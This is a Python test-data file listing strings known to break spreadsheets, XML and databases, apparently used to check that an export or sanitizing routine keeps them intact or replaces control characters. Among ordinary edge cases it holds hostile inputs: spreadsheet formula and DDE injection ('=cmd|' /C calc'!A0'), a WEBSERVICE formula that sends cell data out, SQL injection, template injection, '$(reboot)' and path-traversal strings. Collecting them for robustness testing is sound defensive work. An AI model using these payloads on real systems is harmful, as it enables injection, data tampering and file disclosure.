"""Texts that have hurt spreadsheets, XML or databases before."""

UNCHANGED = (
    # would be formulas, commands or links
    "=1+1", "=SUM(A1:A9)", "==", "=", "+1", "+81-3-5253-1111", "-1", "-", "--", "@SUM(1)", "@",
    "=cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://example.com","click")',
    '=IMPORTXML("http://example.com","//a")', '=WEBSERVICE("http://example.com/?"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "{=1+1}", "=1+1'", "'=1+1", "\t=1+1", " =1+1", "\n=1+1",
    "＝1+1", "＋1", "－1", "＠SUM", "%0A=1+1", ";=1+1", ",=1+1", "http://example.com/",
    "https://example.com/?a=1&b=2", "mailto:a@example.com", "file:///etc/passwd",
    "\\\\server\\share", "internal:Sheet1!A1", "external:c:\\x.xlsx", "ftp://example.com",
    "#Sheet1!A1",
    # would be other values
    "0", "00", "010006", "1e5", "1E400", "NaN", "nan", "inf", "-Infinity", "TRUE", "FALSE",
    "true", "NULL", "null", "None", "undefined", "#N/A", "#REF!", "#DIV/0!", "#VALUE!", "1/2",
    "3-4", "2026-11-23", "11/23", "令和８年11月23日", "10:30", "1,234", "¥1,234", "100%", "0x1F",
    "0b1", "1_000", "12345678901234567890", "９９", "½", "²", "MARCH1", "SEPT2", "1.0", "1.10",
    ".5", "5.", "-0", "+0", "1 234",
    # XML
    "<", ">", "&", '"', "'", "&amp;", "&lt;script&gt;", "<script>alert(1)</script>", "]]>",
    "<![CDATA[x]]>", "<!-- x -->", "<?xml version='1.0'?>", '<!DOCTYPE x [<!ENTITY a "b">]>',
    "&#0;", "&#x0;", "&a;", "</t></is></c>", '" r="A1', "<r><t>x</t></r>", "x005F_",
    "_x005F_", "_x0041_", "_x005F_x0041_", "_x0000_", "_x000D_", "_xD800_", "_xFFFF_", "_x0041",
    "x0041_", "_x004_", "_X0041_", "a_x0041_b_x0042_", "_x0041_x0042_", "__x0041__", "_x00e9_",
    "_xyz_", " _x0020_ ", "\n_x000A_\n",
    # white space
    " ", "  ", "\t", "\n", "\n\n", " a", "a ", "  a  b  ", "a\nb", "a\tb", "\ta", "a\n", "　",
    "　全角　", "\u00a0", "\u2003x\u2003", "\u200b", "\ufeff", "\u2028", "\u2029", "a\u2028b",
    "\u3000\n\u3000",
    # scripts, marks, planes
    "髙橋﨑檮", "𠮷野家", "葛󠄀城市", "辻󠄂", "が", "か\u3099", "ﾊﾝｶｸｶﾅ", "㈱①Ⅳ㌔", "～－∥￠￡￢",
    "〜—‖¢£¬", "😀", "👨‍👩‍👧‍👦", "🇯🇵", "👍🏽", "\U0010fffd", "\ue000", "مرحبا", "שלום",
    "\u202eabc\u202c", "\u2066abc\u2069", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "ｅ́", "ﷺ", "I̊", "ß", "İ",
    "\u0301", "ก็็็็", "꧁༺༻꧂", "ಠ_ಠ", "(╯°□°）╯︵ ┻━┻", "ÅÅ", "\U000e0041", "\ufdd0", "\u00ad",
    # other machines
    "'; DROP TABLE answers; --", "1' OR '1'='1", "${7*7}", "{{7*7}}", "{% debug %}", "$(reboot)",
    "`reboot`", "../../etc/passwd", "C:\\CON", "%s%n%x", "%d", "{0}", "\\u0041", "\\n", "\\",
    "\\\\", "javascript:alert(1)", "該当なし", "対象外", "空欄", "－", "―", "‐", "ー", "*", "?",
    "[x]", "a" * 32_767, "あ" * 255, "あ" * 32_767, "😀" * 16_383, "\n" * 300, "&" * 10_000,
)  # fmt: skip

CHANGED = {
    "\x00": "␀",
    "a\x00b": "a␀b",
    "\x07鐘": "␇鐘",
    "\x08": "␈",
    "\x0b": "␋",
    "\x0c": "␌",
    "\x1b[31m": "␛[31m",
    "\x1f": "␟",
    "\x7f": "␡",
    "\x80\x9f": "��",
    "\x85": "�",
    "\x00=1+1": "␀=1+1",
    "\ud800": "�",
    "a\udfff": "a�",
    "a\ud83db": "a�b",
    "\ud83d\ude00": "��",
    "\ufffe": "�",
    "\uffff": "�",
    "a\r\nb": "a\nb",
    "a\rb": "a\nb",
    "\r\n=1": "\n=1",
    "\r": "\n",
    "\x00_x0041_<": "␀_x0041_<",
}
